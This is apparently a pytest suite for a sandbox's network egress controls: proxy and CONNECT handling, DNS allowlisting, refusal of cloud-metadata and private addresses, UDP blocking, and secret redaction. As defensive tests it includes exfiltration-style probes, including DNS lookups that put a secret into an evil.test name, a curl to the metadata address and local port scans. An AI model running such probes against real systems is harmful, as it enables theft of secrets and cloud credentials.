"""Egress through real cells: the proxy, CONNECT, transparent mode, DNS, the guard, audit.

Origins are HTTP servers on the host's loopback. Names are pinned to 127.0.0.1 with
``pinned_hosts`` (``--add-host``), and loopback is allowed literally where a test wants
the connection to go through: a name alone never reaches loopback (the guard).
"""

from __future__ import annotations

import json
import os
import threading
import time
from pathlib import Path
from typing import Any, TypedDict

import pytest
from tests.conftest import RunCell
from tests.netservers import http_origin, udp_sink

from buildcell.allowlist import EgressPolicy

CURL = ("curl", "-sS", "--max-time", "10")


def _policy(*entries: str) -> EgressPolicy:
    return EgressPolicy.from_strings(entries)


class _Net(TypedDict):
    """The cell options that give it a network: passed on to ``cell`` as ``**_net(...)``."""

    network: EgressPolicy
    pinned_hosts: tuple[tuple[str, str], ...]


def _net(*entries: str, pin: tuple[str, ...] = ("api.test",)) -> _Net:
    return {
        "network": _policy(*entries),
        "pinned_hosts": tuple((name, "127.0.0.1") for name in pin),
    }


def _fds() -> int:
    return len(os.listdir("/proc/self/fd"))


def test_no_policy_means_no_network_at_all(cell: RunCell) -> None:
    with http_origin("a") as origin:
        ran = cell(
            [
                "python3",
                "-c",
                "import socket,sys\n"
                f"s=socket.socket(); s.settimeout(2)\n"
                f"try: s.connect(('127.0.0.1', {origin.port})); print('connected')\n"
                "except OSError as e: print('refused', e.errno)\n",
            ]
        )
    assert "refused" in ran.stdout
    assert origin.hits == []
    assert ran.of("cell.start")[0]["network"] == "none"
    assert "HTTP_PROXY" not in ran.stdout


def test_allowed_name_through_the_forward_proxy(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [*CURL, f"http://api.test:{port}/hello"],
            **_net(f"api.test:{port}", f"127.0.0.1:{port}"),
        )
    assert ran.result.exit_code == 0, ran.stderr
    assert ran.stdout == "hello from a /hello\n"
    assert origin.hits == ["/hello"]
    (allow,) = ran.of("net.allow")
    assert allow["mode"] == "proxy"
    assert allow["host"] == "api.test"
    assert allow["port"] == port
    assert allow["method"] == "GET"
    assert allow["address"] == "127.0.0.1"
    assert allow["status"] == 200
    assert allow["bytes_down"] > len("hello from a /hello\n")
    assert allow["bytes_up"] > 0
    assert allow["duration_ms"] >= 0
    assert ran.of("cell.start")[0]["network"] == [f"api.test:{port}", f"127.0.0.1:{port}"]
    assert ran.result.egress is not None
    (row,) = ran.result.egress
    assert (row.destination, row.allowed, row.requests) == (f"api.test:{port}", True, 1)
    assert ran.result.teardown is not None and ran.result.teardown.network_released


def test_connect_tunnel(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [*CURL, "--proxytunnel", f"http://api.test:{port}/tunnel"],
            **_net(f"api.test:{port}", f"127.0.0.1:{port}"),
        )
    assert ran.result.exit_code == 0, ran.stderr
    assert ran.stdout == "hello from a /tunnel\n"
    (allow,) = ran.of("net.allow")
    assert allow["mode"] == "connect"
    assert allow["method"] == "CONNECT"
    assert allow["status"] == 200
    assert allow["bytes_down"] > 20


def test_transparent_mode_for_clients_that_ignore_proxy_variables(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [
                "sh",
                "-c",
                "getent hosts api.test; "
                f"curl -sS --max-time 10 --noproxy '*' http://api.test:{port}/direct",
            ],
            **_net(f"api.test:{port}", f"127.0.0.1:{port}"),
        )
    assert ran.result.exit_code == 0, ran.stderr
    first, second = ran.stdout.splitlines()
    synthetic = first.split()[0]
    assert synthetic.startswith("127.77.")
    assert second == "hello from a /direct"
    queries = [q for q in ran.of("dns.query") if q["name"] == "api.test" and q["qtype"] == "A"]
    assert queries and all(q["allowed"] and q["address"] == synthetic for q in queries)
    (allow,) = ran.of("net.allow")
    assert allow["mode"] == "transparent"
    assert allow["host"] == "api.test"
    assert allow["bytes_down"] > 0


def test_denied_destination_gets_403_naming_the_allow_that_would_permit_it(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [*CURL, "-i", f"http://other.test:{port}/secret"],
            **_net(f"api.test:{port}", f"127.0.0.1:{port}", pin=("api.test", "other.test")),
        )
    assert origin.hits == []
    assert "403" in ran.stdout.splitlines()[0]
    assert f"--allow other.test:{port}" in ran.stdout
    assert "not on the allowlist" in ran.stdout
    (deny,) = ran.of("net.deny")
    assert deny["host"] == "other.test"
    assert deny["status"] == 403
    assert deny["allow_hint"] == f"other.test:{port}"
    assert ran.result.egress is not None
    assert [(r.destination, r.allowed) for r in ran.result.egress] == [
        (f"other.test:{port}", False)
    ]


def test_dns_answers_only_allowlisted_names(cell: RunCell) -> None:
    ran = cell(
        [
            "sh",
            "-c",
            "getent hosts api.test && echo api-ok; "
            "getent hosts exfil-c2VjcmV0.evil.test || echo evil-refused",
        ],
        **_net("api.test:443"),
    )
    assert "api-ok" in ran.stdout
    assert "evil-refused" in ran.stdout
    evil = [q for q in ran.of("dns.query") if q["name"] == "exfil-c2vjcmv0.evil.test"]
    assert evil and all(not q["allowed"] and q["rcode"] == "REFUSED" for q in evil)
    assert "address" not in evil[0]


def test_name_never_reaches_loopback_unless_allowed_literally(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell([*CURL, f"http://api.test:{port}/x"], **_net(f"api.test:{port}"))
    assert origin.hits == []
    assert "403" not in ran.stderr
    assert "loopback" in ran.stdout
    # The hint is the pin of the name, not the bare address.
    assert f"--add-host api.test:127.0.0.1 --allow api.test:{port}" in ran.stdout
    assert f"--allow 127.0.0.1:{port}" not in ran.stdout
    (deny,) = ran.of("net.deny")
    assert (deny["allow_hint"], deny["add_host_hint"]) == (f"api.test:{port}", "api.test:127.0.0.1")


def test_a_granted_pin_reaches_its_name_at_a_loopback_address(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        net = _net(f"api.test:{port}")
        policy = net["network"].with_pins(net["pinned_hosts"], granted=net["network"])
        ran = cell(
            [*CURL, f"http://api.test:{port}/pinned"],
            network=policy,
            pinned_hosts=net["pinned_hosts"],
        )
    assert ran.stdout == "hello from a /pinned\n", ran.stderr
    assert origin.hosts == [f"api.test:{port}"]
    (allow,) = ran.of("net.allow")
    assert allow["pinned"] is True and allow["address"] == "127.0.0.1"


@pytest.mark.parametrize(
    ("address", "why"),
    [("169.254.169.254", "cloud metadata"), ("10.1.2.3", "private"), ("192.168.1.1", "private")],
)
def test_metadata_and_private_addresses_are_refused(cell: RunCell, address: str, why: str) -> None:
    ran = cell(
        [*CURL, "http://internal.test/latest/meta-data/"],
        network=_policy("internal.test"),
        pinned_hosts=(("internal.test", address),),
    )
    assert why in ran.stdout
    (deny,) = ran.of("net.deny")
    if why == "cloud metadata":
        # No name needs the metadata service: nothing is offered to reach it.
        assert "allow_hint" not in deny and "add_host_hint" not in deny
    else:
        # The pin of the name, never the bare address (it would open every name there).
        assert deny["allow_hint"] == "internal.test:80"
        assert deny["add_host_hint"] == f"internal.test:{address}"
        assert f"--add-host internal.test:{address} --allow internal.test:80" in ran.stdout
    assert f"--allow {address}" not in ran.stdout
    assert "address" not in deny or deny["address"] is None


def test_literal_ip_entries_need_no_name(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [*CURL, "--noproxy", "", f"http://127.0.0.1:{port}/lit"],
            **_net(f"127.0.0.1:{port}", pin=()),
        )
    assert ran.stdout == "hello from a /lit\n", ran.stderr
    assert ran.of("net.allow")[0]["entry"] == f"127.0.0.1:{port}"


def test_udp_and_other_addresses_get_nowhere(cell: RunCell) -> None:
    probe = (
        "import socket\n"
        "u=socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "u.sendto(b'leak', ('127.0.0.1', PORT))\n"
        "for target in ('192.0.2.1', '10.0.0.1'):\n"
        "    s=socket.socket(); s.settimeout(2)\n"
        "    try: s.connect((target, 80)); print('connected', target)\n"
        "    except OSError as e: print('unreachable', target, e.errno)\n"
        "try:\n"
        "    i=socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)\n"
        "    i.sendto(b'\\x08\\0\\0\\0\\0\\0\\0\\0', ('192.0.2.1', 0)); print('icmp sent')\n"
        "except OSError as e: print('icmp blocked', e.errno)\n"
        "names=[l.split(':')[0].strip() for l in open('/proc/net/dev').readlines()[2:]]\n"
        "print('ifaces=' + ','.join(names))\n"
    )
    with udp_sink() as sink, http_origin("a") as origin:
        ran = cell(
            ["python3", "-c", probe.replace("PORT", str(sink.port))],
            **_net(f"api.test:{origin.port}", f"127.0.0.1:{origin.port}"),
        )
    assert ran.result.exit_code == 0, ran.stderr
    assert sink.received == []
    assert "connected" not in ran.stdout
    assert "icmp sent" not in ran.stdout
    assert "ifaces=lo\n" in ran.stdout
    assert ran.stdout.count("unreachable") == 2


def test_two_cells_side_by_side_do_not_see_each_others_traffic(cell: RunCell) -> None:
    results: dict[str, Any] = {}
    with http_origin("a") as a, http_origin("b") as b:

        def run(name: str, mine: int, theirs: int) -> None:
            results[name] = cell(
                [
                    "sh",
                    "-c",
                    f"curl -sS --max-time 10 http://{name}.test:{mine}/mine; "
                    f"curl -sS --max-time 10 http://{'b' if name == 'a' else 'a'}.test:{theirs}/theirs",
                ],
                network=_policy(f"{name}.test:{mine}", f"127.0.0.1:{mine}"),
                pinned_hosts=(("a.test", "127.0.0.1"), ("b.test", "127.0.0.1")),
            )

        threads = [
            threading.Thread(target=run, args=("a", a.port, b.port)),
            threading.Thread(target=run, args=("b", b.port, a.port)),
        ]
        for t in threads:
            t.start()
        for t in threads:
            t.join()
    assert a.hits == ["/mine"]
    assert b.hits == ["/mine"]
    for name in ("a", "b"):
        ran = results[name]
        assert f"hello from {name} /mine" in ran.stdout
        assert "403" not in ran.stdout.splitlines()[0]
        hosts = {e["host"] for e in ran.events if e["event"] in ("net.allow", "net.deny")}
        other = "b" if name == "a" else "a"
        assert hosts == {f"{name}.test", f"{other}.test"}
        assert {e["host"] for e in ran.of("net.allow")} == {f"{name}.test"}


def test_post_body_and_keep_alive(cell: RunCell) -> None:
    with http_origin("a") as origin:
        port = origin.port
        ran = cell(
            [
                *CURL,
                "--data-binary",
                "payload-123",
                f"http://api.test:{port}/post",
                "--next",
                "-sS",
                f"http://api.test:{port}/second",
            ],
            **_net(f"api.test:{port}", f"127.0.0.1:{port}"),
        )
    assert ran.stdout == "echo:payload-123hello from a /second\n", ran.stderr
    assert [e["method"] for e in ran.of("net.allow")] == ["POST", "GET"]


def test_secret_in_a_dns_name_is_redacted_from_events(cell: RunCell, tmp_path: Path) -> None:
    from buildcell.cell.config import CellSecret
    from buildcell.redact import Secret
    from buildcell.secrets import SecretDelivery

    secret = Secret("token", b"s3cr3t-value-42")
    ran = cell(
        ["sh", "-c", "getent hosts $(cat /run/secrets/token).evil.test; true"],
        secrets=(CellSecret(SecretDelivery("token"), secret),),
        redact=(secret,),
        **_net("api.test:443"),
    )
    dumped = json.dumps(ran.events)
    assert "s3cr3t-value-42" not in dumped
    assert any(q["name"].startswith("***") for q in ran.of("dns.query"))


def test_listeners_and_threads_are_gone_after_the_cell(cell: RunCell) -> None:
    before_fds = _fds()
    before_threads = threading.active_count()
    with http_origin("a") as origin:
        for _ in range(3):
            ran = cell(
                [*CURL, f"http://api.test:{origin.port}/"],
                **_net(f"api.test:{origin.port}", f"127.0.0.1:{origin.port}"),
            )
            assert ran.result.exit_code == 0
            assert ran.of("teardown")[0]["network_released"] is True
    assert _fds() == before_fds
    assert threading.active_count() == before_threads


def test_with_a_policy_other_host_ports_stay_unreachable(cell: RunCell) -> None:
    """Only allowed ports have listeners; the host's other loopback services stay out of reach."""
    with http_origin("a") as allowed, http_origin("b") as other:
        ran = cell(
            [
                "python3",
                "-c",
                "import socket\n"
                "for port in (PORT, 22, 5432):\n"
                "    s=socket.socket(); s.settimeout(2)\n"
                "    try: s.connect(('127.0.0.1', port)); s.sendall(b'GET / HTTP/1.0\\r\\n\\r\\n');"
                " print(port, s.recv(100))\n"
                "    except OSError as e: print(port, 'refused', e.errno)\n".replace(
                    "PORT", str(other.port)
                ),
            ],
            **_net(f"api.test:{allowed.port}", f"127.0.0.1:{allowed.port}"),
        )
    assert ran.result.exit_code == 0, ran.stderr
    assert ran.stdout.count("refused") == 3, ran.stdout
    assert other.hits == [] and allowed.hits == []


def test_the_supervisor_stays_in_its_own_network_namespace(cell: RunCell) -> None:
    # As root the spawning thread enters the cell's namespace to bind the listeners and
    # start bubblewrap; it must come back, and nothing may listen on the host for the cell.
    import socket

    def netns() -> str:
        return os.readlink("/proc/thread-self/ns/net")

    def host_proxy_port_open() -> bool:
        with socket.socket() as s:
            return s.connect_ex(("127.0.0.1", 3128)) == 0

    assert not host_proxy_port_open()
    home = netns()
    opened: list[bool] = []

    script = f"readlink /proc/self/ns/net; sleep 2 # {os.getpid()}-{threading.get_ident()}"

    def running() -> bool:
        # The cell's shell is up: its command is in some process's argv on the host.
        for entry in os.listdir("/proc"):
            if entry.isdigit():
                try:
                    argv = Path(f"/proc/{entry}/cmdline").read_bytes().split(b"\0")
                except OSError:
                    continue
                if argv[0].endswith(b"sh") and script.encode() in argv:
                    return True
        return False

    def watch() -> None:  # while the cell runs
        deadline = time.monotonic() + 30
        while time.monotonic() < deadline and not running():
            time.sleep(0.01)
        opened.append(host_proxy_port_open() if running() else True)

    watcher = threading.Thread(target=watch)
    watcher.start()
    try:
        ran = cell(["sh", "-c", script], **_net("api.test:80"))
    finally:
        watcher.join()
    assert netns() == home  # this thread started the cell
    assert opened == [False]
    inside = ran.stdout.strip()
    assert inside.startswith("net:[") and inside != home
